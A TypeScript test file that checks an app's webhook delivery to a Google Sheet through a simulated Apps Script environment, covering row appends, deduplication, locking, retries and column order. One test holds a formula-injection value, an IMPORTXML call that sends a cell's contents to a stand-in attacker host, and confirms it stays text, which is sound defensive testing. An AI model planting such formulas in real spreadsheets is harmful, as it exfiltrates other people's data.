/** The program for a Google Sheet, on a stand-in that treats it as Google Apps Script does. */
import { readFile } from 'node:fs/promises'
import type { lookup } from 'node:dns'
import { join } from 'node:path'
import { runInNewContext } from 'node:vm'
import { expect, test } from 'vitest'
import { deliverDue } from '#server/webhooks/deliver.ts'
import { createSendWebhook } from '#server/webhooks/send-webhook.ts'
import { anApplication, filled } from '#tests/server/an-application.ts'
import { anAppFor, answer, aReceiver, HOUR_MS, SECRET } from './a-receiver.ts'

const program = await readFile(join(import.meta.dirname, '../../../src/server/webhooks/google-sheet.gs'), 'utf8')

/** As a sheet takes what is typed into a cell, or set by a program. */
function typed(value: string): unknown {
  if (value.startsWith("'")) return value.slice(1)
  if (/^[=+]/.test(value)) return { formula: value }
  return value
}

/** What happens beside an execution: when it has looked for the id, and when it has released its lock. */
type Beside = { looked?: () => void; released?: () => void }

function aGoogleSheet() {
  const rows: unknown[][] = []
  let isLocked = false

  /** One execution of the program. Others see what it writes when it flushes, or has ended. Throws what the program does. */
  function run(contents: string, { looked, released }: Beside = {}): void {
    const unseen: (() => void)[] = []
    const flush = () => {
      for (const write of unseen.splice(0)) write()
    }
    const sheet = {
      getLastColumn: () => rows[0]?.length ?? 0,
      createTextFinder: (words: string) => ({
        matchEntireCell: () => ({
          findNext: () => {
            const found = rows.flat().includes(words) ? {} : null
            looked?.()
            return found
          },
        }),
      }),
      getRange: (row: number, column: number, height: number, width: number) => ({
        getValues: () =>
          rows.slice(row - 1, row - 1 + height).map((cells) => cells.slice(column - 1, column - 1 + width)),
        setValues: ([values = []]: string[][]) =>
          void unseen.push(() => (rows[row - 1] ??= []).splice(column - 1, width, ...values.map(typed))),
      }),
      appendRow: (values: string[]) => void unseen.push(() => rows.push(values.map(typed))),
    }
    const lock = {
      waitLock: () => {
        if (isLocked) throw new Error('Lock timeout: another process was holding the lock for too long.')
        isLocked = true
      },
      releaseLock: () => {
        isLocked = false
        released?.()
      },
    }
    const services = {
      LockService: { getScriptLock: () => lock },
      SpreadsheetApp: { getActive: () => ({ getSheets: () => [sheet] }), flush },
      ContentService: { createTextOutput: (output: string) => output },
    }
    runInNewContext(`${program}; doPost`, services)({ postData: { contents } })
    flush()
  }
  return { rows, run }
}

const TO_THIS_MACHINE = ((_: string, __: object, callback: (error: null, found: object[]) => void) =>
  callback(null, [{ address: '127.0.0.1', family: 4 }])) as unknown as typeof lookup

/** An app that tells a sheet, by a deployment that answers as Google does. */
async function anAppForASheet() {
  const google = await aReceiver()
  const { rows, run } = aGoogleSheet()
  let beside: Beside = {}
  google.behave((request, response, body) => {
    try {
      run(body, beside)
      const location = 'https://script.googleusercontent.com/macros/echo?user_content_key=AY5x&lib=M4'
      return answer(302, { location })(request, response, body)
    } catch {
      // A page about the error.
      return answer(200, { 'content-type': 'text/html' })(request, response, body)
    }
  })
  const { port } = new URL(google.url)
  const app = await anAppFor(google.url)
  const url = new URL(`http://script.google.com:${port}/macros/s/AKfycb/exec`)
  const send = createSendWebhook({ url, secret: SECRET, allowPrivate: false }, { lookup: TO_THIS_MACHINE })
  return {
    ...app,
    rows,
    run,
    received: google.received,
    during: (next: Beside) => void (beside = next),
    deliver: () => deliverDue({ ...app.options, send }),
  }
}

test('a message becomes a row below the names of its values, and Google’s redirect means that it is delivered', async () => {
  const { join: apply, deliver, rows, pending, received } = await anAppForASheet()
  await apply()
  expect(await deliver()).toBe(1)
  expect(await pending()).toEqual([])
  const { id, timestamp, data } = JSON.parse(received[0]?.body ?? '')
  expect(rows).toHaveLength(2)
  const row = Object.fromEntries((rows[0] ?? []).map((name, column) => [name, rows[1]?.[column]]))
  const given = Object.entries(data).map(([name, value]) => [name, value ?? ''])
  expect(row).toEqual({ id, received_at: timestamp, ...Object.fromEntries(given) })
  expect(row).toMatchObject({ email: filled.email, whatsapp: filled.whatsapp })
})

test('a message that comes again is left out, and still delivered', async () => {
  const { join: apply, deliver, rows, received, run } = await anAppForASheet()
  await apply()
  await deliver()
  run(received[0]?.body ?? '')
  await apply(anApplication({ email: 'ravi@example.com' }))
  expect(await deliver()).toBe(1)
  expect(rows).toHaveLength(3)
})

test.each<keyof Beside>(['looked', 'released'])('of two deliveries at once (%s) one adds a row', async (moment) => {
  const { join: apply, deliver, rows, received, run, during } = await anAppForASheet()
  await apply()
  let others = 0
  during({
    [moment]: () => {
      others += 1
      try {
        run(received[0]?.body ?? '')
      } catch {}
    },
  })
  expect(await deliver()).toBe(1)
  expect(others).toBe(1)
  expect(rows).toHaveLength(2)
})

test('what a sheet would run as a formula, or read as a number, stays text', async () => {
  const { join: apply, deliver, rows } = await anAppForASheet()
  await apply(anApplication({ name: '=IMPORTXML("https://evil.example/?"&B2,"//a")', whatsapp: '+919876543210' }))
  await deliver()
  expect(rows[1]).toEqual(expect.arrayContaining(['=IMPORTXML("https://evil.example/?"&B2,"//a")', '+919876543210']))
})

test('a message that the program could not add, which Google answers with 200, is sent again', async () => {
  const { join: apply, deliver, rows, pending, during, later } = await anAppForASheet()
  await apply()
  during({
    looked: () => {
      throw new Error('Service Spreadsheets failed.')
    },
  })
  expect(await deliver()).toBe(0)
  expect(await pending()).toMatchObject([
    { lastError: expect.stringMatching(/status 200: the program in Apps Script failed/) },
  ])
  during({})
  later(HOUR_MS)
  expect(await deliver()).toBe(1)
  expect(rows).toHaveLength(2)
})

test('columns that were moved get their own values, and those of the owner none', async () => {
  const { join: apply, deliver, rows } = await anAppForASheet()
  rows.push(['called by', 'email', 'name'])
  await apply()
  await deliver()
  expect(rows[0]?.slice(0, 5)).toEqual(['called by', 'email', 'name', 'id', 'received_at'])
  expect(rows[1]?.slice(0, 3)).toEqual(['', filled.email, filled.name])
})
